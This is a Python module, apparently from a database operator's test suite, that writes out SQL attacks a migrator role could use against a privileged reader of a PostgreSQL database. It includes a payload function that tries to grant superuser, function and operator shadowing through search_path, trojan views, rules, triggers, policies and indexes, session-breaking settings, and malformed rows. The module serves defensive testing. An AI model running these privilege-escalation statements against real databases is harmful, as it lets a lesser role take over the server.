"""What somebody with the migrator's rights may try against whoever reads the database, as plain SQL.

Each attack runs as the migrator in the application's database, after `PREPARATION`. `{owner}` stands for the owner's
name. They need nothing of the test suite, so that they can be run with psql on any database of the operator's:
`python -m migrator_attacks OWNER NAME | psql ...`.

Attacker's code is `public.payload(text)`: it tries to make the migrator and the owner superusers, writes a row into
`public.canary`, and writes a line with `CANARY` into the server's log, which no rollback takes back.
"""

from __future__ import annotations

import enum
import sys
from dataclasses import dataclass


class Outcome(enum.StrEnum):
    """What becomes of an attack."""

    READ = "Read"
    """Everything is read as if nothing had been done."""
    RELATION = "UntrustedRelation"
    CONTENT = "UntrustedContent"
    REFUSED = "Refused"
    """PostgreSQL refuses the attack's last statement."""


@dataclass(frozen=True)
class Attack:
    """Statements, and what becomes of them."""

    name: str
    sql: str
    outcome: Outcome = Outcome.READ

    def script(self, owner: str) -> str:
        """The statements for a database of that owner."""
        return self.sql.replace("{owner}", owner)


PREPARATION = """
CREATE TABLE public.canary (at timestamptz DEFAULT now(), acting name, session name, source text);
GRANT INSERT ON public.canary TO PUBLIC;
CREATE FUNCTION public.payload(source text) RETURNS boolean LANGUAGE plpgsql
  SET search_path = pg_catalog AS $payload$
BEGIN
  RAISE LOG 'CANARY acting=% session=% source=% database=%', current_user, session_user, source, current_database();
  BEGIN PERFORM set_config('default_transaction_read_only', 'off', false); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN SET transaction_read_only = off; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE {owner}_migrator SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE {owner} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN INSERT INTO public.canary (acting, session, source) VALUES (current_user, session_user, source);
  EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $payload$;
CREATE FUNCTION public.pure(source text) RETURNS integer IMMUTABLE LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.payload(source); RETURN 1; END $$;
"""

_ASIDE = "ALTER TABLE public._prisma_migrations RENAME TO real_history;"
_HISTORY = (
    "id, checksum, finished_at, migration_name, logs, rolled_back_at, started_at, applied_steps_count"
    " FROM public.real_history"
)
_RUNS_ASIDE = "ALTER TABLE medianest_operator.migration_runs RENAME TO real_runs;"
_VERSIONS_ASIDE = "ALTER TABLE medianest_operator.schema_versions RENAME TO real_versions;"


def _operator(symbol: str, left: str, right: str, result: str, value: str) -> str:
    function = f"public.op_{left}_{right}".replace('"', "")
    return (
        f"CREATE FUNCTION {function}({left}, {right}) RETURNS {result} LANGUAGE plpgsql AS"
        f" $$ BEGIN PERFORM public.payload('{symbol}({left},{right})'); RETURN {value}; END $$;\n"
        f"CREATE OPERATOR public.{symbol} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = {function});\n"
    )


_SHADOWS = "".join(
    f"CREATE FUNCTION public.{name}({arguments}) RETURNS {result} LANGUAGE plpgsql AS"
    f" $$ BEGIN PERFORM public.payload('{name}'); RETURN {value}; END $$;\n"
    for name, arguments, result, value in (
        ("quote_ident", "name", "text", "$1"),
        ("starts_with", "name, text", "boolean", "false"),
        ("md5", "text", "text", "'0'"),
        ("current_database", "", "name", "'x'"),
        ("pg_database_size", "oid", "bigint", "1"),
        ("pg_get_userbyid", "oid", "name", "'x'"),
        ("format_type", "oid, integer", "text", "'x'"),
        ("pg_get_indexdef", "oid", "text", "'x'"),
        ("to_regnamespace", "text", "regnamespace", "NULL"),
    )
)

ATTACKS: tuple[Attack, ...] = (
    # Operators and functions that are found before PostgreSQL's own, or fit better.
    Attack("operator-concatenates-oid", "".join(
        _operator("||", "text", right, "text", "$1") for right in ("oid", "xid", "int2", "name"))),
    Attack("operator-compares-names", _operator("=", "name", "text", "boolean", "true")
           + _operator("=", "oid", "regclass", "boolean", "true")
           + _operator("<>", "oid", "regnamespace", "boolean", "true")),
    Attack("functions-with-better-fitting-arguments", _SHADOWS),
    Attack("search-path-of-the-database", _SHADOWS + _operator("=", "name", "name", "boolean", "true")
           + "DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET search_path = public, pg_catalog',"
           " current_database()); END $$;"),
    Attack("search-path-of-the-role", _SHADOWS
           + "SET ROLE NONE; ALTER ROLE {owner}_migrator SET search_path = public, pg_catalog;"),
    Attack("cast-between-built-in-types",
           "CREATE FUNCTION public.to_name(oid) RETURNS text LANGUAGE sql AS $$ SELECT 'x' $$;"
           "CREATE CAST (oid AS text) WITH FUNCTION public.to_name(oid) AS IMPLICIT;", Outcome.REFUSED),
    # Something else in the place of a table that is read.
    Attack("history-view", f"{_ASIDE} CREATE VIEW public._prisma_migrations AS SELECT {_HISTORY}"
           " WHERE public.payload('history view');", Outcome.RELATION),
    Attack("history-view-of-security-definer",
           "ALTER FUNCTION public.payload(text) SECURITY DEFINER;"
           f"{_ASIDE} CREATE VIEW public._prisma_migrations AS SELECT {_HISTORY} WHERE public.payload('definer');",
           Outcome.RELATION),
    Attack("history-view-worked-out-by-the-planner", f"{_ASIDE} CREATE VIEW public._prisma_migrations AS SELECT"
           f" {_HISTORY} WHERE public.pure('planner') = 1;", Outcome.RELATION),
    Attack("history-materialized-view", f"{_ASIDE} CREATE MATERIALIZED VIEW public._prisma_migrations AS"
           f" SELECT {_HISTORY};", Outcome.RELATION),
    Attack("history-partitioned", f"{_ASIDE} CREATE TABLE public._prisma_migrations"
           " (LIKE public.real_history INCLUDING DEFAULTS) PARTITION BY RANGE (started_at);"
           "CREATE TABLE public.part PARTITION OF public._prisma_migrations"
           " (CHECK (public.pure('partition') = 1)) DEFAULT;", Outcome.RELATION),
    Attack("history-with-a-child", "CREATE TABLE public.child () INHERITS (public._prisma_migrations);"
           "CREATE INDEX ON public.child ((public.pure('child')));", Outcome.RELATION),
    Attack("history-made-a-view-by-a-rule", f"{_ASIDE} CREATE TABLE public._prisma_migrations"
           " (LIKE public.real_history); CREATE RULE \"_RETURN\" AS ON SELECT TO public._prisma_migrations DO INSTEAD"
           f" SELECT id, checksum, finished_at, migration_name, logs, rolled_back_at, started_at,"
           " applied_steps_count FROM public.real_history WHERE public.payload('rule');", Outcome.RELATION),
    Attack("history-with-a-rule", "CREATE RULE noise AS ON UPDATE TO public._prisma_migrations DO ALSO"
           " SELECT public.payload('rule');", Outcome.RELATION),
    Attack("history-foreign-table", "CREATE FOREIGN DATA WRAPPER mine;", Outcome.REFUSED),
    Attack("journal-view", f"{_RUNS_ASIDE} CREATE VIEW medianest_operator.migration_runs AS SELECT * FROM"
           " medianest_operator.real_runs WHERE public.payload('journal view');", Outcome.RELATION),
    Attack("versions-view", f"{_VERSIONS_ASIDE} CREATE VIEW medianest_operator.schema_versions AS SELECT * FROM"
           " medianest_operator.real_versions WHERE public.payload('versions view');", Outcome.RELATION),
    Attack("journal-schema-of-views", "ALTER SCHEMA medianest_operator RENAME TO mine;"
           "CREATE SCHEMA medianest_operator;"
           "CREATE VIEW medianest_operator.migration_runs AS SELECT * FROM mine.migration_runs"
           " WHERE public.payload('schema');"
           "CREATE VIEW medianest_operator.schema_versions AS SELECT * FROM mine.schema_versions"
           " WHERE public.payload('schema');", Outcome.RELATION),
    Attack("history-of-another-owner", "SET ROLE NONE; ALTER TABLE public._prisma_migrations OWNER TO {owner}_migrator;"
           "GRANT ALL ON public._prisma_migrations TO {owner};", Outcome.RELATION),
    # Code beside the rows of a table.
    Attack("row-level-security", "CREATE POLICY p ON public._prisma_migrations USING (public.payload('policy'));"
           "ALTER TABLE public._prisma_migrations ENABLE ROW LEVEL SECURITY;"
           "ALTER TABLE public._prisma_migrations FORCE ROW LEVEL SECURITY;", Outcome.RELATION),
    Attack("row-level-security-of-the-journal",
           "CREATE POLICY p ON medianest_operator.migration_runs USING (public.payload('policy'));"
           "ALTER TABLE medianest_operator.migration_runs ENABLE ROW LEVEL SECURITY;", Outcome.RELATION),
    Attack("triggers", "CREATE FUNCTION public.fire() RETURNS trigger LANGUAGE plpgsql AS"
           " $$ BEGIN PERFORM public.payload('trigger'); RETURN NEW; END $$;"
           "CREATE TRIGGER t BEFORE INSERT OR UPDATE ON public._prisma_migrations"
           " FOR EACH ROW EXECUTE FUNCTION public.fire();"
           "CREATE TRIGGER t BEFORE INSERT OR UPDATE ON medianest_operator.migration_runs"
           " FOR EACH ROW EXECUTE FUNCTION public.fire();"),
    Attack("index-on-an-expression", "CREATE INDEX ON public._prisma_migrations ((public.pure('index')));",
           Outcome.RELATION),
    Attack("index-with-a-condition", "CREATE INDEX ON medianest_operator.schema_versions (origin)"
           " WHERE public.pure('condition') = 1;", Outcome.RELATION),
    Attack("statistics-on-an-expression", "CREATE STATISTICS public.s ON (public.pure('statistics') + length(id)),"
           " checksum FROM public._prisma_migrations;", Outcome.RELATION),
    Attack("check-constraint-with-constraint-exclusion",
           "ALTER TABLE medianest_operator.schema_versions ADD CHECK (public.pure('check') = 1) NOT VALID;"
           "DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET constraint_exclusion = on', current_database());"
           " END $$;", Outcome.RELATION),
    Attack("domain-column", "CREATE DOMAIN public.label AS varchar(255) CHECK (public.payload(VALUE));"
           "ALTER TABLE public._prisma_migrations ALTER COLUMN migration_name TYPE public.label;", Outcome.RELATION),
    Attack("enum-column-with-a-cast", "CREATE TYPE public.mood AS ENUM ('good');"
           "CREATE FUNCTION public.moody(public.mood) RETURNS text LANGUAGE plpgsql AS"
           " $$ BEGIN PERFORM public.payload('cast'); RETURN 'x'; END $$;"
           "CREATE CAST (public.mood AS text) WITH FUNCTION public.moody(public.mood) AS IMPLICIT;"
           "ALTER TABLE public._prisma_migrations ALTER COLUMN logs TYPE public.mood USING 'good'::public.mood;",
           Outcome.RELATION),
    Attack("enum-column-compared", "CREATE TYPE public.mood AS ENUM ('good');"
           + _operator("=", "public.mood", "text", "boolean", "true").replace("op_public.mood", "op_mood")
           + "ALTER TABLE medianest_operator.schema_versions DROP CONSTRAINT schema_versions_pkey;"
           "ALTER TABLE medianest_operator.schema_versions ALTER COLUMN version TYPE public.mood"
           " USING 'good'::public.mood;", Outcome.RELATION),
    Attack("composite-column", "CREATE TYPE public.pair AS (a text, b text);"
           "ALTER TABLE public._prisma_migrations DROP COLUMN logs;"
           "ALTER TABLE public._prisma_migrations ADD COLUMN logs public.pair;", Outcome.RELATION),
    Attack("generated-column", "ALTER TABLE public._prisma_migrations DROP COLUMN logs;"
           "ALTER TABLE public._prisma_migrations ADD COLUMN logs text"
           " GENERATED ALWAYS AS (public.pure('generated')::text) STORED;", Outcome.RELATION),
    Attack("column-missing", "ALTER TABLE public._prisma_migrations DROP COLUMN checksum;", Outcome.RELATION),
    Attack("unlogged-history", "ALTER TABLE public._prisma_migrations SET UNLOGGED;", Outcome.RELATION),
    # What only a superuser may make.
    Attack("event-trigger", "CREATE FUNCTION public.fire() RETURNS event_trigger LANGUAGE plpgsql AS"
           " $$ BEGIN PERFORM public.payload('event'); END $$;"
           "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION public.fire();", Outcome.REFUSED),
    Attack("a-base-type", "CREATE FUNCTION public.out(public.evil) RETURNS cstring LANGUAGE internal AS 'textout';",
           Outcome.REFUSED),
    Attack("schema-named-like-postgresqls", "CREATE SCHEMA pg_catalog2;", Outcome.REFUSED),
    Attack("object-in-pg-catalog", "CREATE FUNCTION pg_catalog.md5(integer) RETURNS text LANGUAGE sql AS"
           " $$ SELECT 'x' $$;", Outcome.REFUSED),
    Attack("settings-of-the-reader", "ALTER ROLE {owner}_controller SET search_path = public, pg_catalog;",
           Outcome.REFUSED),
    Attack("settings-of-the-superuser", "DO $$ BEGIN EXECUTE format("
           "'ALTER ROLE postgres IN DATABASE %I SET search_path = public, pg_catalog', current_database());"
           " END $$;", Outcome.REFUSED),
    Attack("library-for-every-session", "DO $$ BEGIN EXECUTE format("
           "'ALTER DATABASE %I SET session_preload_libraries = ''auto_explain''', current_database()); END $$;",
           Outcome.REFUSED),
    # What the database's owner may set for everybody's sessions.
    Attack("settings-that-stop-sessions", "".join(
        f"DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET {name} = {value}', current_database()); END $$;\n"
        for name, value in (
            ("local_preload_libraries", "''no_such_library''"), ("role", "''{owner}''"), ("statement_timeout", "1"),
            ("lock_timeout", "1"), ("idle_session_timeout", "1"), ("idle_in_transaction_session_timeout", "1"),
            ("default_transaction_read_only", "on"), ("default_transaction_isolation", "''serializable''"),
            ("default_transaction_deferrable", "on"), ("exit_on_error", "on"), ("row_security", "on")))),
    Attack("settings-that-change-answers", "".join(
        f"DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET {name} = {value}', current_database()); END $$;\n"
        for name, value in (
            ("DateStyle", "''German''"), ("IntervalStyle", "''sql_standard''"), ("TimeZone", "''Asia/Tokyo''"),
            ("client_encoding", "''LATIN1''"), ("bytea_output", "''escape''"), ("extra_float_digits", "-15"),
            ("quote_all_identifiers", "on"), ("standard_conforming_strings", "off"),
            ("transform_null_equals", "on"), ("array_nulls", "off"), ("debug_print_plan", "on"),
            ("default_table_access_method", "''heap''"), ("constraint_exclusion", "on")))),
    Attack("default-privileges", "ALTER DEFAULT PRIVILEGES FOR ROLE {owner} IN SCHEMA public"
           " REVOKE ALL ON TABLES FROM {owner}_app; ALTER DEFAULT PRIVILEGES FOR ROLE {owner}"
           " GRANT ALL ON FUNCTIONS TO PUBLIC;"),
    Attack("membership-of-the-reader", "SET ROLE NONE; GRANT {owner}_migrator TO {owner}_controller;",
           Outcome.REFUSED),
    Attack("temporary-objects", "CREATE TEMPORARY TABLE pg_class AS SELECT public.payload('temporary');"
           "CREATE FUNCTION pg_temp.md5(text) RETURNS text LANGUAGE sql AS $$ SELECT 'x' $$;"),
    # Rows that nobody of ours writes.
    Attack("moments-that-no-calendar-has", "UPDATE public._prisma_migrations SET started_at = '-infinity',"
           " finished_at = 'infinity', rolled_back_at = NULL;"
           "UPDATE medianest_operator.migration_runs SET started_at = '200000-01-01', finished_at = 'infinity';"),
    Attack("names-with-line-breaks", "UPDATE public._prisma_migrations SET migration_name = E'x\\nReady\\tTrue';",
           Outcome.CONTENT),
    Attack("logs-without-end", "UPDATE public._prisma_migrations SET logs = repeat('x', 50000000);"),
    Attack("history-without-end", "INSERT INTO public._prisma_migrations (id, checksum, migration_name)"
           " SELECT i::text, repeat('0', 64), 'm' || i::text FROM generate_series(1, 6000) i;", Outcome.CONTENT),
    Attack("huge-journal-row", "UPDATE medianest_operator.migration_runs SET result ="
           " jsonb_build_object('outcome', 'Applied', 'message', repeat('x', 50000000));", Outcome.CONTENT),
    Attack("journal-of-another-shape", "UPDATE medianest_operator.migration_runs SET result = '[[1], \"x\", null]';",
           Outcome.CONTENT),
    Attack("journal-of-unknown-words", "UPDATE medianest_operator.migration_runs SET step = 'Dancing';",
           Outcome.CONTENT),
    Attack("journal-nested-deeply", "UPDATE medianest_operator.migration_runs SET result ="
           " (repeat('[', 5000) || repeat(']', 5000))::jsonb;", Outcome.CONTENT),
    Attack("catalog-of-another-shape", "UPDATE medianest_operator.schema_versions SET catalog ="
           " '[{\"kind\": \"column\", \"table\": 1, \"name\": null, \"attributes\": []}]';", Outcome.CONTENT),
    Attack("definition-without-end",
           "DO $$ BEGIN EXECUTE 'CREATE FUNCTION public.longer() RETURNS text LANGUAGE sql AS '"
           " || quote_literal('SELECT ' || quote_literal(repeat('x', 20000000))); END $$;", Outcome.CONTENT),
    Attack("comments-with-line-breaks", "COMMENT ON TABLE public._prisma_migrations IS E'a\\nb\\x07';"),
    # The schemas themselves.
    Attack("public-renamed", "ALTER SCHEMA public RENAME TO gone;", Outcome.CONTENT),
    Attack("public-exchanged", "ALTER SCHEMA public RENAME TO gone; CREATE SCHEMA public;"
           "CREATE VIEW public._prisma_migrations AS SELECT m.* FROM gone._prisma_migrations m"
           " WHERE gone.payload('exchanged');", Outcome.RELATION),
)  # fmt: skip


if __name__ == "__main__":
    owner, name = sys.argv[1:3]
    attack = next(attack for attack in ATTACKS if attack.name == name)
    print(PREPARATION.replace("{owner}", owner), attack.script(owner), sep="\n")
